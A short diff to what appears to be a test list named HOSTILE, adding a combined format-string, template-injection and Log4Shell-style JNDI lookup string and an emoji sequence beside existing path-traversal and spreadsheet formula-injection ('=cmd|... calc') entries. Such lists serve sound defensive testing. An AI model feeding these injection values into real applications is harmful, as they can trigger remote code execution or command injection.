@@ -24,6 +24,8 @@ HOSTILE = [
     "../../#@evil/resource?x=y&z",
     "\x00\x1f\x7f",
     "=cmd|' /C calc'!A0",
+    "{actor_username}{{7*7}}${jndi:ldap://x}",
+    "\U0001f469\u200d\U0001f4bb",
 ]
 
 
